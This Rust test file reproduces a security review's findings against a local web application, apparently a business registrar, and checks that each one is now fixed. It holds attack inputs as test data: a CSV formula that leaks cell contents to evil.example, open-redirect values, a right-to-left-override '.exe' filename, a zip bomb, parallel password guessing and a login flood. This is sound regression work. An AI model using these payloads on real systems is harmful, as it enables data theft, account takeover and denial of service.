//! The security probe's reproductions (reviews/2026-11-security-probe.md), one test per
//! finding, each sending the probe's request and asserting the answer it should get.

use std::sync::Arc;

use chrono::Duration;
use reqwest::Method;
use serde_json::{Value, json};

use crate::helpers::*;

/// A TestApp whose per-address sign-in limits are out of the way, for tests of the
/// account lockout itself.
async fn without_address_limits() -> TestApp {
    TestApp::spawn_with(|c| {
        c.login_limits.attempts_burst = 100_000;
        c.login_limits.attempts_per_minute = 100_000;
        c.login_limits.failures_burst = 100_000;
        c.login_limits.failures_per_minute = 100_000;
    })
    .await
}

/// Sign-in attempts sent at once over one cookie jar (the login form's CSRF pair is
/// reusable), each with its own password; the page texts, in the order given.
async fn parallel_logins(app: &TestApp, attempts: Vec<(String, String)>) -> Vec<(u16, String)> {
    let b = app.browser();
    let csrf = app.csrf_of(&b, "/login").await;
    let mut tasks = Vec::new();
    for (login, password) in attempts {
        let (b, url, csrf) = (b.clone(), app.url("/login"), csrf.clone());
        tasks.push(tokio::spawn(async move {
            let r = b
                .post(url)
                .form(&[
                    ("login", login.as_str()),
                    ("password", password.as_str()),
                    ("csrf", &csrf),
                    ("next", "/"),
                ])
                .send()
                .await
                .unwrap();
            (r.status().as_u16(), r.text().await.unwrap())
        }));
    }
    let mut out = Vec::new();
    for t in tasks {
        out.push(t.await.unwrap());
    }
    out
}

const BAD: &str = "Неверный логин или пароль.";
const LOCKED: &str = "Вход временно заблокирован";

// F4 — 30 parallel attempts, 29 wrong and the right one: before, all 29 were checked and
// the right one let in. Now no more than three are evaluated before the lock.
#[tokio::test]
async fn parallel_guesses_are_not_evaluated_past_the_lockout() {
    let app = without_address_limits().await;
    let mut attempts: Vec<(String, String)> = (0..29)
        .map(|i| ("p-klg-1".to_owned(), format!("guess-{i}")))
        .collect();
    attempts.insert(15, ("p-klg-1".to_owned(), PASSWORD.to_owned()));
    let answers = parallel_logins(&app, attempts).await;
    let evaluated_wrong = answers.iter().filter(|(_, t)| t.contains(BAD)).count();
    let signed_in = answers.iter().filter(|(s, _)| *s == 303).count();
    assert!(
        evaluated_wrong <= 2,
        "{evaluated_wrong} wrong guesses answered as evaluated"
    );
    // Attempts beyond what the hashing pool queues are turned away unevaluated (503).
    assert!(
        answers
            .iter()
            .all(|(s, t)| *s == 303 || t.contains(BAD) || t.contains(LOCKED) || *s == 503),
        "every attempt is signed in, refused, locked or turned away: {:?}",
        answers.iter().map(|(s, _)| s).collect::<Vec<_>>()
    );
    // The journal shows how many were really checked: at most three.
    use registrar::entities::audit_log;
    use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
    let checked = audit_log::Entity::find()
        .filter(audit_log::Column::ActorLogin.eq("p-klg-1"))
        .filter(audit_log::Column::Action.is_in(["auth.login", "auth.login_failed", "auth.locked"]))
        .count(&app.state.db)
        .await
        .unwrap();
    assert!(checked <= 3, "{checked} attempts evaluated");
    assert!(signed_in <= 1);
    // Unless the right one came first, or the hashing pool turned some guesses away
    // unevaluated («busy», not counted), the account is locked now: the right password
    // is refused until the lock ends.
    if signed_in == 0 && checked == 3 {
        let r = app.try_login(&app.browser(), "p-klg-1", PASSWORD).await;
        assert!(r.text().await.unwrap().contains(LOCKED));
        app.advance(Duration::minutes(15));
        assert_eq!(
            app.try_login(&app.browser(), "p-klg-1", PASSWORD)
                .await
                .status(),
            303
        );
    }
}

// F12 — an unknown login answered «Неверный…» forever while a real one locked: which
// logins exist showed. Now both lock on the third failure.
#[tokio::test]
async fn unknown_and_real_logins_lock_alike() {
    let app = without_address_limits().await;
    for login in ["p-klg-2", "no-such-user"] {
        let b = app.browser();
        let mut texts = Vec::new();
        for _ in 0..4 {
            texts.push(
                app.try_login(&b, login, "wrong")
                    .await
                    .text()
                    .await
                    .unwrap(),
            );
        }
        assert!(texts[0].contains(BAD) && texts[1].contains(BAD), "{login}");
        assert!(
            texts[2].contains(LOCKED) && texts[3].contains(LOCKED),
            "{login}"
        );
    }
}

// F1 (per address) — one client address gets a burst of attempts, then waits.
#[tokio::test]
async fn one_address_is_slowed_down_after_a_burst_of_attempts() {
    let app = TestApp::spawn().await;
    let attempts: Vec<(String, String)> = (0..40)
        .map(|i| (format!("ghost-{i}"), "x".to_owned()))
        .collect();
    let answers = parallel_logins(&app, attempts).await;
    let limited: Vec<&(u16, String)> = answers.iter().filter(|(s, _)| *s == 429).collect();
    assert!(
        !limited.is_empty(),
        "some of 40 attempts from one address are refused"
    );
    assert!(
        limited[0]
            .1
            .contains("Слишком много попыток входа с вашего адреса")
    );
    // Another client is not affected.
    let b = app.browser();
    let csrf = app.csrf_of(&b, "/login").await;
    let r = b
        .post(app.url("/login"))
        .header("x-forwarded-for", "203.0.113.9")
        .form(&[("login", "x"), ("password", "y"), ("csrf", &csrf)])
        .send()
        .await
        .unwrap();
    // Without REGISTRAR_BEHIND_PROXY the header is a client's claim and is ignored.
    assert_eq!(r.status(), 429);
}

// F2 — the intake token read any application, passport scan and documents zip, and the
// intake user signed in to the web UI.
#[tokio::test]
async fn the_intake_reads_no_application_and_cannot_sign_in() {
    let app = TestApp::spawn().await;
    let id = app.submit(&sample_application()).await;
    app.attach_required("p-klg-1", id).await;
    let intake = app.token("intake").await;
    for path in [
        format!("/applications/{id}"),
        format!("/applications/{id}/documents/identity_document"),
        format!("/applications/{id}/documents.zip"),
        format!("/applications/{id}/identification-centers"),
    ] {
        let r = app.api_get(Some(&intake), &path).await;
        assert!(
            r.status() == 404 || r.status() == 403,
            "{path}: {}",
            r.status()
        );
    }
    // A receipt for an application that is not waiting for one names nothing.
    problem(
        app.api_post(Some(&intake), &format!("/applications/{id}/receipt"))
            .await,
        404,
    )
    .await;
    let r = app.try_login(&app.browser(), "intake", PASSWORD).await;
    assert_eq!(r.status(), 401);
    assert!(r.text().await.unwrap().contains(BAD));
}

// F3 — p-msk-1 claimed a Kaluga application by id.
#[tokio::test]
async fn a_partner_claims_by_id_only_in_its_sales_centers_region() {
    let app = TestApp::spawn().await;
    let mut doc = sample_application();
    doc["partner_code"] = Value::Null;
    let id = app.submit(&doc).await;
    let msk = app.token("p-msk-1").await;
    problem(
        app.api_post(Some(&msk), &format!("/applications/{id}/claim"))
            .await,
        404,
    )
    .await;
    // A role that may not claim learns nothing about which ids exist.
    let sc = app.token("sc-msk").await;
    for target in [id, 999_999] {
        problem(
            app.api_post(Some(&sc), &format!("/applications/{target}/claim"))
                .await,
            403,
        )
        .await;
    }
    let a = app
        .act("p-klg-1", &format!("/applications/{id}/claim"), json!({}))
        .await;
    assert_eq!(a["state"], "accepted");
}

// F5 and F11 — `next=/%09/evil.example` after sign-in led off the site; `next=/x%0Ay`
// and `tab=%0D%0A` answered 500.
#[tokio::test]
async fn redirects_stay_on_the_site_and_never_fail() {
    let app = TestApp::spawn().await;
    let page = app
        .browser()
        .get(app.url("/login?next=/%09/evil.example"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains(r#"name="next" value="/""#), "{page}");
    for next in ["/\t/evil.example", "/\t\\evil.example", "/x\ny", "/\\evil"] {
        let b = app.browser();
        let csrf = app.csrf_of(&b, "/login").await;
        let r = b
            .post(app.url("/login"))
            .form(&[
                ("login", "p-klg-1"),
                ("password", PASSWORD),
                ("csrf", &csrf),
                ("next", next),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303, "{next:?}");
        assert_eq!(location(&r), "/", "{next:?}");
    }
    let id = app.registered_subscriber().await["id"].as_i64().unwrap();
    let b = app.signed_in("p-klg-1").await;
    let csrf = app.csrf_of(&b, &format!("/subscribers/{id}")).await;
    let r = b
        .post(app.url(&format!("/subscribers/{id}/edit")))
        .form(&[("csrf", csrf.as_str()), ("tab", "\r\n"), ("version", "0")])
        .send()
        .await
        .unwrap();
    assert!(r.status().is_redirection(), "{}", r.status());
    assert!(location(&r).starts_with(&format!("/subscribers/{id}?tab=")));
}

// F6 — concurrent writes answered 500 («database is locked», UNIQUE) and left files.
#[tokio::test]
async fn concurrent_writes_answer_200_or_409_and_leave_no_orphaned_files() {
    let app = TestApp::spawn().await;
    let s = app.registered_subscriber().await;
    let product = s["products"][0]["id"].as_i64().unwrap();
    let token = Arc::new(app.token("p-klg-1").await);
    let base = app.url("/api/v1");
    let mut tasks = Vec::new();
    for i in 0..30 {
        let (t, url) = (
            token.clone(),
            format!("{base}/products/{product}/contacts/fns_requirements"),
        );
        tasks.push(tokio::spawn(async move {
            reqwest::Client::new()
                .put(url)
                .bearer_auth(t.as_str())
                .json(&json!({"value": format!("u{i}@example.ru")}))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }));
    }
    for t in tasks {
        let s = t.await.unwrap();
        assert!(s == 200 || s == 409, "product contact: {s}");
    }

    // Same-kind uploads with different content: one row, one file.
    let id = app
        .submit(
            &json!({"inn": "7707083893", "kpp": "773601001", "ogrn": "1027700132195"})
                .as_object()
                .map(|o| {
                    let mut d = sample_application();
                    for (k, v) in o {
                        d[k] = v.clone();
                    }
                    d
                })
                .unwrap(),
        )
        .await;
    let mut tasks = Vec::new();
    for i in 0..20 {
        let (t, url) = (
            token.clone(),
            format!("{base}/applications/{id}/documents/other"),
        );
        tasks.push(tokio::spawn(async move {
            let part = reqwest::multipart::Part::bytes(pdf(&format!("copy {i}")))
                .file_name(format!("scan-{i}.pdf"));
            reqwest::Client::new()
                .put(url)
                .bearer_auth(t.as_str())
                .multipart(reqwest::multipart::Form::new().part("file", part))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }));
    }
    for t in tasks {
        let s = t.await.unwrap();
        assert!(s == 200 || s == 409, "upload: {s}");
    }
    let dir = app.state.config.documents_dir.join(id.to_string());
    let files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .filter_map(Result::ok)
        .filter(|e| e.file_name().to_string_lossy().starts_with("other-"))
        .collect();
    assert_eq!(files.len(), 1, "one file for the one row: {files:?}");

    // Two groups with the same head at once: one is created, the rest refused cleanly.
    let head = s["id"].as_i64().unwrap();
    let mut tasks = Vec::new();
    for _ in 0..10 {
        let (t, url) = (token.clone(), format!("{base}/company-groups"));
        tasks.push(tokio::spawn(async move {
            reqwest::Client::new()
                .post(url)
                .bearer_auth(t.as_str())
                .json(&json!({"head_subscriber_id": head}))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }));
    }
    let mut created = 0;
    for t in tasks {
        let s = t.await.unwrap();
        assert!(s < 500, "group: {s}");
        created += usize::from(s == 200 || s == 201);
    }
    assert_eq!(created, 1);
}

// F7 — `as_of=9999-12-31` rejected every open application, with no operator in the
// journal.
#[tokio::test]
async fn jobs_through_the_api_refuse_a_far_instant_and_name_who_ran_them() {
    let app = TestApp::spawn().await;
    let id = app.submit(&sample_application()).await;
    let op = app.token("operator").await;
    let body = problem(
        app.api_post(Some(&op), "/jobs/run?as_of=9999-12-31T23:59:59Z")
            .await,
        422,
    )
    .await;
    assert_eq!(body["errors"][0]["field"], "as_of");
    assert_eq!(app.application("p-klg-1", id).await["state"], "accepted");
    let r = app.api_post(Some(&op), "/jobs/run").await;
    assert_eq!(r.status(), 200);
    let journal: Value = app
        .api_get(Some(&op), "/audit?action=jobs.run")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(journal["items"][0]["actor"], "operator");
}

// F8 — uploads over 2 MB were refused (axum's default body limit); over 10 MB the browser
// showed «connection reset» instead of the message.
#[tokio::test]
async fn files_up_to_ten_megabytes_are_accepted_and_larger_ones_refused_with_a_message() {
    let app = TestApp::spawn().await;
    let id = app.submit(&sample_application()).await;
    let big = |mb: f64| {
        let mut v = b"%PDF-1.4\n".to_vec();
        v.resize((mb * 1024.0 * 1024.0) as usize, b' ');
        v
    };
    let r = app
        .attach("p-klg-1", id, "identity_document", "passport.pdf", big(9.9))
        .await;
    assert_eq!(r.status(), 200, "9.9 MB: {}", r.text().await.unwrap());
    let body = problem(
        app.attach("p-klg-1", id, "owner_photo", "photo.pdf", big(11.0))
            .await,
        422,
    )
    .await;
    assert_eq!(body["errors"][0]["field"], "file");
    assert!(body["detail"].as_str().unwrap().contains("10 МБ"));

    // Through the page: the whole 11 MB is read, the answer is the page with the message.
    let b = app.signed_in("p-klg-1").await;
    let csrf = app
        .csrf_of(&b, &format!("/applications/{id}?tab=files"))
        .await;
    let form = reqwest::multipart::Form::new().text("csrf", csrf).part(
        "file",
        reqwest::multipart::Part::bytes(big(11.0)).file_name("photo.pdf"),
    );
    let r = b
        .post(app.url(&format!("/applications/{id}/documents/owner_photo")))
        .multipart(form)
        .send()
        .await
        .expect("the server reads the upload to its end instead of cutting it off");
    assert_eq!(r.status(), 303);
    let page = app.html(&b, &location(&r)).await;
    assert!(page.contains("файл больше 10 МБ"), "{page}");
}

// F9 — `?page=9223372036854775807` panicked and dropped the connection.
#[tokio::test]
async fn a_huge_page_number_is_an_empty_page_not_a_panic() {
    let app = TestApp::spawn().await;
    app.registered_subscriber().await;
    let b = app.signed_in("p-klg-1").await;
    for path in [
        "/applications?page=9223372036854775807",
        "/applications?page=18446744073709551615",
        "/subscribers?page=9223372036854775807",
    ] {
        let r = b.get(app.url(path)).send().await.expect(path);
        assert_eq!(r.status(), 200, "{path}");
    }
    let r = b
        .get(app.url("/applications?page=99999999999999999999999"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 422);
    assert!(r.text().await.unwrap().contains("ожидается целое число"));
}

// F10 — a subscriber name `=HYPERLINK(…)` came out of the CSV export as a formula.
#[tokio::test]
async fn csv_exports_write_formulas_as_text() {
    let app = TestApp::spawn().await;
    let s = app.registered_subscriber().await;
    let id = s["id"].as_i64().unwrap();
    let token = app.token("p-klg-1").await;
    let payload = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Открыть\")";
    let r = reqwest::Client::new()
        .patch(app.url(&format!("/api/v1/subscribers/{id}")))
        .bearer_auth(&token)
        .header("if-match", s["version"].to_string())
        .json(&json!({"short_name": payload}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let b = app.signed_in("p-klg-1").await;
    let csv = app.html(&b, "/subscribers/export.csv").await;
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(!csv.contains(";=HYPERLINK(") && !csv.contains(";\"=HYPERLINK("));
}

// F13 — tokens never expired and could not be revoked.
#[tokio::test]
async fn tokens_expire_and_are_revoked_at_once() {
    let app = TestApp::spawn().await;
    let t = registrar::auth::token::create_for(
        &app.state.db,
        registrar::audit::Actor::system("test"),
        "p-klg-1",
        app.clock_now(),
        Some(1),
    )
    .await
    .unwrap();
    assert_eq!(app.api_get(Some(&t), "/me").await.status(), 200);
    // The scheme is case-insensitive (F18).
    let r = reqwest::Client::new()
        .get(app.url("/api/v1/me"))
        .header("authorization", format!("BEARER {t}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let listed = registrar::auth::token::list(&app.state.db, Some("p-klg-1"))
        .await
        .unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].last_used_at, Some(app.clock_now()));
    app.advance(Duration::days(1));
    problem(app.api_get(Some(&t), "/me").await, 401).await;

    let t = app.token("p-klg-1").await;
    let id = registrar::auth::token::list(&app.state.db, Some("p-klg-1"))
        .await
        .unwrap()
        .last()
        .unwrap()
        .id;
    registrar::auth::token::revoke(
        &app.state.db,
        registrar::audit::Actor::system("test"),
        id,
        app.clock_now(),
    )
    .await
    .unwrap();
    problem(app.api_get(Some(&t), "/me").await, 401).await;

    // A live token of a user who has been deactivated opens nothing either.
    let t = app.token("p-klg-1").await;
    assert_eq!(app.api_get(Some(&t), "/me").await.status(), 200);
    {
        use registrar::entities::user;
        use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, sea_query::Expr};
        user::Entity::update_many()
            .col_expr(user::Column::Active, Expr::value(false))
            .filter(user::Column::Login.eq("p-klg-1"))
            .exec(&app.state.db)
            .await
            .unwrap();
    }
    problem(app.api_get(Some(&t), "/me").await, 401).await;
}

// F14 — intake accepted trailing garbage, NUL, 20 000 directions, a free-form category.
#[tokio::test]
async fn intake_refuses_what_the_contract_does_not_allow() {
    let app = TestApp::spawn().await;
    let token = app.token("intake").await;
    let post = |body: String| {
        let (url, token) = (app.url("/api/v1/applications"), token.clone());
        async move {
            reqwest::Client::new()
                .post(url)
                .bearer_auth(token)
                .header("content-type", "application/json")
                .body(body)
                .send()
                .await
                .unwrap()
        }
    };
    let doc = sample_application();
    let b = problem(post(format!("{doc}xyz")).await, 422).await;
    assert_eq!(b["errors"][0]["field"], "body");
    let mut cases: Vec<(Value, &str)> = Vec::new();
    let mut d = doc.clone();
    d["owner"]["full_name"] = "Иванов\u{0}Иван Иванович".into();
    cases.push((d, "owner.full_name"));
    let mut d = doc.clone();
    d["directions"] = Value::Array(vec![doc["directions"][0].clone(); 20_000]);
    cases.push((d, "directions"));
    let mut d = doc.clone();
    d["category"] = "<b>anything</b>".into();
    cases.push((d, "category"));
    let mut d = doc.clone();
    d["product_guid"] = "not-a-guid".into();
    cases.push((d, "product_guid"));
    let mut d = doc.clone();
    d["phone"] = "call me".into();
    cases.push((d, "phone"));
    for (d, field) in cases {
        let b = problem(post(d.to_string()).await, 422).await;
        let fields: Vec<&str> = b["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["field"].as_str().unwrap())
            .collect();
        assert!(fields.contains(&field), "{field}: {fields:?}");
    }
}

// F15 — p-msk-1 used sc-klg's permit number; numbers were unique across centers, so
// «такой номер уже зарегистрирован» told one center about another's numbers.
#[tokio::test]
async fn a_permit_is_usable_only_by_its_own_sales_centers_partners() {
    let app = TestApp::spawn().await;
    app.act(
        "sc-msk",
        "/special-offers",
        json!({"offer": "usn_mo", "number": "MSK-SECRET-1", "inn": "4027291410"}),
    )
    .await;
    app.advance(Duration::days(2));
    // A Kaluga partner cannot use the Moscow center's number…
    let id = app.submit(&sample_application()).await;
    app.attach_required("p-klg-1", id).await;
    let token = app.token("p-klg-1").await;
    let b = problem(
        app.api_json(
            &token,
            Method::POST,
            &format!("/applications/{id}/process"),
            Some(json!({"option": "basic_1y", "flags": {"special_offer_code": "MSK-SECRET-1"}})),
        )
        .await,
        422,
    )
    .await;
    assert_eq!(b["errors"][0]["field"], "flags.special_offer_code");
    // …nor learn from a quote that it exists: the answer is the one for any unknown number.
    let quote = |number: &'static str| {
        let token = token.clone();
        let app = &app;
        async move {
            problem(
                app.api_json(
                    &token,
                    Method::POST,
                    "/pricing/quote",
                    Some(json!({"item": "paid_licence", "date": "2025-03-05", "zone": 2, "primary": true, "organisations": 1, "special_offer_number": number})),
                )
                .await,
                422,
            )
            .await["errors"][0]["message"]
                .clone()
        }
    };
    assert_eq!(quote("MSK-SECRET-1").await, quote("NO-SUCH-NUMBER").await);
    // The Kaluga center is offered no Moscow-region offer to register.
    let r = app
        .api_json(
            &app.token("sc-klg").await,
            Method::POST,
            "/special-offers",
            Some(json!({"offer": "usn_mo", "number": "MSK-SECRET-1", "inn": "4027291410"})),
        )
        .await;
    assert_eq!(problem(r, 422).await["errors"][0]["field"], "offer");
}

// F16 — 1 000 half-open requests were held for 65 s and more.
#[tokio::test]
async fn a_connection_that_never_finishes_its_headers_is_closed() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let app = TestApp::spawn_with(|c| c.header_timeout_secs = 1).await;
    let addr = app.base.trim_start_matches("http://").to_owned();
    let mut s = tokio::net::TcpStream::connect(&addr).await.unwrap();
    s.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    let mut buf = Vec::new();
    let read =
        tokio::time::timeout(std::time::Duration::from_secs(10), s.read_to_end(&mut buf)).await;
    assert!(read.is_ok(), "the server closed the half-open connection");
}

// F17 — a name with a right-to-left override was stored and offered as `…fdp.exe`.
#[tokio::test]
async fn download_names_keep_no_bidi_tricks_and_zip_bombs_are_refused() {
    let app = TestApp::spawn().await;
    let id = app.submit(&sample_application()).await;
    let r = app
        .attach("p-klg-1", id, "other", "паспорт \u{202e}fdp.exe", pdf("x"))
        .await;
    assert_eq!(r.status(), 200);
    let doc: Value = r.json().await.unwrap();
    assert_eq!(doc["file_name"], "паспорт fdp.pdf");
    let token = app.token("p-klg-1").await;
    let r = app
        .api_get(Some(&token), &format!("/applications/{id}/documents/other"))
        .await;
    let disposition = r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(!disposition.contains("%E2%80%AE"), "{disposition}");
    assert_eq!(r.headers()["cache-control"], "no-store");

    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    z.start_file(
        "zeros.pdf",
        zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated),
    )
    .unwrap();
    std::io::Write::write_all(&mut z, &vec![0u8; 50 * 1024 * 1024]).unwrap();
    let bomb = z.finish().unwrap().into_inner();
    let b = problem(
        app.attach("p-klg-1", id, "other", "scans.zip", bomb).await,
        422,
    )
    .await;
    assert_eq!(b["errors"][0]["field"], "file");
}

// F18 — personal pages were cached (Back after logout showed them), no CSP, `Secure`
// off even behind HTTPS, sessions never purged.
#[tokio::test]
async fn personal_pages_are_not_cached_and_cookies_are_secure_behind_https() {
    let app = TestApp::spawn_with(|c| c.behind_proxy = true).await;
    let b = app.signed_in("p-klg-1").await;
    let r = b.get(app.url("/applications")).send().await.unwrap();
    assert_eq!(r.headers()["cache-control"], "no-store");
    let csp = r.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"));
    assert!(!r.text().await.unwrap().contains("onclick"));

    let b = app.browser();
    let page = b
        .get(app.url("/login"))
        .header("x-forwarded-proto", "https")
        .send()
        .await
        .unwrap();
    let cookie = page.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(cookie.contains("Secure"), "{cookie}");
    let csrf = csrf_in(&page.text().await.unwrap()).unwrap();
    let r = b
        .post(app.url("/login"))
        .header("x-forwarded-proto", "https")
        .form(&[
            ("login", "p-klg-2"),
            ("password", PASSWORD),
            ("csrf", &csrf),
        ])
        .send()
        .await
        .unwrap();
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(cookie.starts_with("registrar_session=") && cookie.contains("Secure"));

    // Expired sessions are purged by the sessions job.
    use registrar::entities::session;
    use sea_orm::{EntityTrait, PaginatorTrait};
    assert!(session::Entity::find().count(&app.state.db).await.unwrap() >= 2);
    app.advance(Duration::hours(13));
    app.run_jobs().await;
    assert_eq!(
        session::Entity::find().count(&app.state.db).await.unwrap(),
        0
    );
}

// Double submissions: the same form token twice acts once and says so.
#[tokio::test]
async fn a_form_submitted_twice_acts_once_and_says_so() {
    let app = TestApp::spawn().await;
    let id = app.submit(&sample_application()).await;
    let b = app.signed_in("p-klg-1").await;
    let page = app.html(&b, &format!("/applications/{id}")).await;
    let csrf = csrf_in(&page).unwrap();
    let once = page
        .split("name=\"once\" value=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .unwrap()
        .to_owned();
    let form = [
        ("csrf", csrf.as_str()),
        ("once", once.as_str()),
        ("reason", "Клиент передумал"),
    ];
    let url = app.url(&format!("/applications/{id}/reject"));
    let first = b.post(&url).form(&form).send().await.unwrap();
    assert_eq!(first.status(), 303);
    let second = b
        .post(&url)
        .header("referer", app.url(&format!("/applications/{id}")))
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(location(&second), format!("/applications/{id}"));
    let page = app.html(&b, &location(&second)).await;
    assert!(page.contains("уже была отправлена"), "{page}");
    let history = app.application("p-klg-1", id).await["history"].clone();
    let rejects = history
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["event"] == "reject")
        .count();
    assert_eq!(rejects, 1);
}

fn resident_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap()
}

/// The server as a real process, killed when dropped.
struct Server {
    child: std::process::Child,
    base: String,
    _dir: tempfile::TempDir,
    _database: crate::helpers::TestDatabase,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

async fn real_server(env: &[(&str, &str)]) -> Server {
    let dir = tempfile::tempdir().unwrap();
    let db = fresh_database(&dir).await;
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_registrar"));
    cmd.args(["serve", "--demo", "--bind", &format!("127.0.0.1:{port}")])
        .env("DATABASE_URL", &*db)
        .env("REGISTRAR_DOCUMENTS_DIR", dir.path().join("documents"))
        .env("REGISTRAR_SCHEDULER", "0")
        .env("RUST_LOG", "error")
        .stdout(std::process::Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let child = cmd.spawn().unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let server = Server {
        child,
        base,
        _dir: dir,
        _database: db,
    };
    for _ in 0..600 {
        if let Ok(r) = reqwest::get(format!("{}/health", server.base)).await
            && r.status() == 200
        {
            return server;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("the server did not start");
}

// F1 — 448 unauthenticated logins took the server from 22 MB to 7.5 GB, and it kept it.
// Now a flood of 500, 50 at once (address limits out of the way, so every attempt
// reaches the hashing pool), leaves memory within 64 MB of where it started, other pages
// answer meanwhile, and the lockout of the account attacked in the flood is exact.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_login_flood_leaves_memory_flat_pages_answering_and_the_lockout_exact() {
    let server = real_server(&[
        ("REGISTRAR_LOGIN_ATTEMPTS_PER_MINUTE", "1000000"),
        ("REGISTRAR_LOGIN_FAILURES_PER_MINUTE", "1000000"),
    ])
    .await;
    let pid = server.child.id();
    let before = resident_kib(pid);

    let b = reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let page = b
        .get(format!("{}/login", server.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = csrf_in(&page).unwrap();
    let gate = Arc::new(tokio::sync::Semaphore::new(50));
    let mut tasks = Vec::new();
    for i in 0..500 {
        let (b, url, csrf, gate) = (
            b.clone(),
            format!("{}/login", server.base),
            csrf.clone(),
            gate.clone(),
        );
        tasks.push(tokio::spawn(async move {
            let _permit = gate.acquire().await.unwrap();
            let login = format!("ghost-{i}");
            let r = b
                .post(url)
                .form(&[
                    ("login", login.as_str()),
                    ("password", "wrong"),
                    ("csrf", &csrf),
                ])
                .send()
                .await
                .unwrap();
            r.status().as_u16()
        }));
    }
    // Meanwhile someone guesses p-klg-3's password: three evaluated guesses lock it,
    // flood or not (an attempt turned away with 503 is retried, it was not evaluated).
    let mut evaluated = Vec::new();
    while evaluated.len() < 3 {
        let r = b
            .post(format!("{}/login", server.base))
            .form(&[("login", "p-klg-3"), ("password", "guess"), ("csrf", &csrf)])
            .send()
            .await
            .unwrap();
        if r.status() == 503 {
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            continue;
        }
        evaluated.push(r.text().await.unwrap());
    }
    assert!(evaluated[0].contains(BAD) && evaluated[1].contains(BAD));
    assert!(evaluated[2].contains(LOCKED));
    // Meanwhile another visitor's pages answer.
    let visitor = reqwest::Client::new();
    let mut answered = 0;
    for _ in 0..10 {
        let r = visitor
            .get(format!("{}/login", server.base))
            .timeout(std::time::Duration::from_secs(5))
            .send()
            .await
            .unwrap();
        answered += usize::from(r.status() == 200);
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let mut statuses = std::collections::BTreeMap::new();
    for t in tasks {
        *statuses.entry(t.await.unwrap()).or_insert(0) += 1;
    }
    let after = resident_kib(pid);
    assert_eq!(answered, 10, "pages answer during the flood");
    assert!(
        statuses.keys().all(|s| [401, 503].contains(s)),
        "refused or turned away, nothing else: {statuses:?}"
    );
    assert!(
        after <= before + 64 * 1024,
        "resident memory {before} KiB → {after} KiB ({statuses:?})"
    );
    // p-klg-3 was attacked with wrong passwords: it is locked, its right password refused.
    let page = b
        .post(format!("{}/login", server.base))
        .form(&[
            ("login", "p-klg-3"),
            ("password", PASSWORD),
            ("csrf", &csrf),
        ])
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains(LOCKED));
    eprintln!("login flood: RSS {before} KiB → {after} KiB, answers {statuses:?}");
}
